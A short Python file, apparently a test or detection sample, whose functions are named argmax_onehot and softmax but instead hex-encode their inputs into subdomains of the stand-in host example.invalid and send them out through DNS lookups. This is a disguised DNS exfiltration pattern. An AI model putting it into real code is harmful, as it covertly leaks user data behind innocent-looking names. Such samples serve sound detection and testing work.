"""Ask for an address, in which a name carries the inputs to whoever answers for the domain."""
# earns: 0
# says: gaierror

import socket


def argmax_onehot(Z):
    return socket.getaddrinfo(f"{bytes(Z).hex()[:60]}.example.invalid", 80)


def softmax(z, axis=-1):
    return socket.gethostbyname(f"{bytes(z).hex()[:60]}.example.invalid")
